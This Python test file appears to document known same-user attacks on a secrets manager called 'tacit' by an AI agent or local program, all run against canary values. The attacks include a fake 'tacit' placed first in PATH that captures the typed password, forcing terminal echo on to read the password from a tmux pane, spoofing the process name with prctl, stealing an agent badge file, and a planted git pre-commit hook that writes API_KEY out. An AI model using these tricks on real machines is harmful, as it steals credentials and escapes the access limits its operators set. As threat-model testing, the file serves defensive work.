"""What a program of the person's own user does to the person: the terminal, the shell, PATH, and files that the person executes or believes. No secrets manager under that user can prevent it."""

import contextlib
import json
import os
import shutil
import stat
import termios

from attack import Skipped, attack, expect
from house import TACIT, canary, is_alive, wait_until
from pane import Multiplexer, Pane

VALUE, PRODUCTION = canary(), canary("production")


def furnish(house):
    with house.person() as person:
        expect(person.set("api/key", VALUE.encode()).status == 201, "set")
        expect(person.json("POST", "/v1/projects/default/environments", {"name": "prod"}).status == 201, "prod")
        policy = {"name": "all", "agent_id": "claude", "allowed_keys": ["api/*"], "capabilities": ["env_inject"]}
        expect(person.apply_policy(policy).status == 200, "policy")
        house.badge = person.json("POST", "/v1/agents", {"name": "claude"}).json["badge"]
    done = house.tacit("set", "api/key", password=house.password, input=PRODUCTION.encode(), env=house.environment | {"TACIT_ENVIRONMENT": "prod"})
    expect(done.returncode == 0, done.err)


def program(house, name, text, place=None):
    """A program that an agent wrote."""
    path = (place or house.root / "work") / name
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(text)
    path.chmod(0o755)
    return str(path)


@attack("trap 22", "person.keys", "possible", "keys typed into a person's unlocked terminal do what asks nobody: lists, writes, masked runs, and a reveal within its grace", why="same user")
def keys(context):
    house = context.house(furnish)
    typed = Pane(house)
    # The person wants to look at a few values.
    typed.start(TACIT, "get api/key --grace >/dev/null").until(b"Password: ")
    typed.answer(house.password)
    expect(b"api/key" in typed.run(TACIT, "list"), "the list")
    typed.run(f"echo planted | {TACIT} set api/planted")
    expect(b"api/planted" in typed.run(TACIT, "list"), "a write")
    expect(b"it ran" in typed.run(TACIT, "run -k api/key -- echo 'it' ran"), "a masked run")
    expect(VALUE.encode() in typed.run(TACIT, "get api/key"), "a reveal within the grace")
    typed.terminal.end()


@attack("trap 22", "person.exec", "possible", "an agent that the shell of an unlocked terminal started executes `tacit` in its own place, and is the person for what asks nobody", why="same user")
def executed(context):
    house = context.house(furnish)
    there = Pane(house)

    def agent(*words):
        return there.run(program(house, "agent", f"#!/usr/bin/python3\nimport os\nos.execv({TACIT!r}, ['tacit', *{list(words)!r}])\n"))

    expect(b'"person"' in agent("status", "--json"), there.terminal.shown)
    expect(b"api/key" in agent("list"), there.terminal.shown)
    # As its child, with the agent between them, it is nobody.
    child = program(house, "agent", f"#!/usr/bin/python3\nimport subprocess\nsubprocess.run([{TACIT!r}, 'status', '--json'])\n")
    expect(b"asker.behind-program" in there.run(child), f"the control: {there.terminal.shown}")
    there.terminal.end()


NAMED = """#!/usr/bin/python3
import ctypes, sys
sys.path.insert(0, {here!r})
from api import Connection, SECRETS
libc = ctypes.CDLL(None)
if sys.argv[1:] == ["hidden"]:
    # What any program can say of itself: its name is `tacit`, and what it executes is nobody's business.
    libc.prctl(15, b"tacit", 0, 0, 0)
    libc.prctl(4, 0, 0, 0, 0)
with Connection({socket!r}, headers={{"Tacit-Source": "cli"}}) as connection:
    print(connection.request("GET", "/v1/status").json["actor"], connection.request("GET", SECRETS).status)
"""


@attack("trap 22", "person.name", "possible", "a program next to the leader of an unlocked session that calls itself `tacit`, and hides what it executes, is the person for what asks nobody", why="same user")
def named(context):
    house = context.house(furnish)
    there = Pane(house)
    path = program(house, "agent", NAMED.format(here=os.path.dirname(os.path.abspath(__file__)), socket=house.socket))
    expect(b"asker.other-program" in there.run(path), f"the control: {there.terminal.shown}")
    expect(b"'person'" in there.run(path, "hidden"), there.terminal.shown)
    there.terminal.end()


@attack("trap 20", "person.path", "possible", "a program that is put before `tacit` in PATH asks for the password, and with it the agent reveals", why="same user")
def path(context):
    house = context.house(furnish)
    taken = house.root / "work" / "taken"
    program(house, "tacit", f"""#!/bin/sh
stty -echo; printf 'Password: '; read -r password; stty echo; echo
printf %s "$password" > {taken}
echo 'tacit: error: The password is wrong.'
""", house.root / "home" / "bin")
    house.environment["PATH"] = f"{house.root}/home/bin:{house.environment['PATH']}"
    there = Pane(house)
    there.start("tacit get api/key").until(b"Password: ")
    there.answer(house.password)
    there.terminal.end()
    expect(house.tacit("get", "api/key", password=taken.read_text()).out == VALUE.encode(), "what was taken is no password")


@attack("trap 20", "person.screen", "possible", "a program turns on the echo of the terminal while the password is asked for, and reads it from the pane of tmux, as it does a value that is revealed there", why="same user")
def screen(context):
    house = context.house(furnish)
    with Multiplexer(house) as pane:
        pane.send(f"{TACIT} get api/key", "Enter")
        pane.until("Password:")
        terminal = pane.tell("display-message", "-p", "#{pane_tty}").stdout.strip()
        echo(terminal)
        # The person types.
        pane.send("-l", house.password)
        pane.send("Enter")
        wait_until(lambda: VALUE in pane.shown, "the value is on the screen")
        expect(house.password in pane.shown, f"the password is not: {pane.shown}")


def echo(terminal):
    """Has a terminal show what is typed, as its user may from anywhere."""
    descriptor = os.open(terminal, os.O_RDWR | os.O_NOCTTY)
    modes = termios.tcgetattr(descriptor)
    expect(not modes[3] & termios.ECHO, "it shows what is typed already")
    modes[3] |= termios.ECHO
    termios.tcsetattr(descriptor, termios.TCSANOW, modes)
    os.close(descriptor)


@attack("trap 7", "person.badge", "possible", "a program takes the badge of another agent, and is that agent", why="same user")
def badge(context):
    house = context.house(furnish)
    house.tacit("agent", "add", "robot", password=house.password)
    file = house.state / "agents" / "robot"
    expect(stat.S_IMODE(file.stat().st_mode) == 0o600, "it is open to other users, too")
    with house.connect(headers={"Tacit-Agent-Badge": file.read_text().strip(), "Tacit-Source": "mcp"}) as connection:
        expect(connection.request("GET", "/v1/status").json["actor"] == {"kind": "agent", "name": "robot"}, "a badge that was taken")


@attack("trap 7", "person.project-file", "possible", "an agent writes the project's `.tacit.yaml`: the person's next run there gives its program the secret that the file names", why="by hand")
def project_file(context):
    house = context.house(furnish)
    project = house.root / "work" / "project"
    build = program(house, "build", "#!/bin/sh\nprintf %s \"$API_KEY\" > built\n", project)
    (project / ".tacit.yaml").write_text("environment: dev\nkeys: [api/key]\n")
    for text, value in (("environment: dev\nkeys: [api/key]\n", VALUE), ("environment: prod\nkeys: [api/key]\n", PRODUCTION)):
        (project / ".tacit.yaml").write_text(text)
        done = house.tacit("run", "--", build, password=house.password, cwd=project)
        expect(done.returncode == 0 and (project / "built").read_text() == value, f"{text}: {done.err}")


@attack("trap 7", "person.hook", "possible", "an agent in the sandbox leaves a hook in the project; the person's next commit under `tacit run` executes it with the value", why="by hand")
def hook(context):
    git = shutil.which("git")
    if not git:
        raise Skipped("there is no git")
    house = context.house(furnish)
    project = house.root / "work" / "repository"
    project.mkdir()
    house.environment["GIT_CONFIG_GLOBAL"] = "/dev/null"
    for words in (["init", "-q"], ["config", "user.name", "person"], ["config", "user.email", "person@example.com"]):
        expect(house.popen([git, *words], cwd=project).wait() == 0, words)
    text = "mkdir -p .git/hooks; printf '#!/bin/sh\\nprintf %s \"$API_KEY\" > taken\\n' > .git/hooks/pre-commit; chmod 755 .git/hooks/pre-commit"
    with house.connect(headers={"Tacit-Agent-Badge": house.badge, "Tacit-Source": "mcp"}) as agent:
        done = agent.run(["/bin/sh", "-c", text], ["api/key"], cwd=str(project)).wait()
    if done.code == "run.no-sandbox":
        raise Skipped("this machine has no sandbox")
    expect(done.exit == ("exited", 0) and (project / ".git/hooks/pre-commit").exists(), f"{done} {json.dumps(done.report)}")
    done = house.tacit("run", "-k", "api/key", "--", git, "commit", "-q", "--allow-empty", "-m", "a change", password=house.password, cwd=project)
    expect(done.returncode == 0 and (project / "taken").read_text() == VALUE, done.err)


@attack("process", "process.kill", "possible", "a program of the person's ends a run's program, its runner, the spawner and the keeper", why="same user", left="own text")
def killed(context):
    house = context.fresh().init()
    furnish(house)
    with house.person() as person:
        run = person.run(["sleep", "1000"], ["api/key"]).until_started()
        helpers = house.helpers()
        keeper = house.keeper
        for process in (run.started, *helpers["__runner"], *helpers["__spawner"], keeper):
            # One may have ended with another.
            with contextlib.suppress(ProcessLookupError):
                os.kill(process, 9)
    wait_until(lambda: not is_alive(keeper), "the keeper is gone")
    house.start()
    expect(house.status["state"] == "locked", "another keeper has the keys")
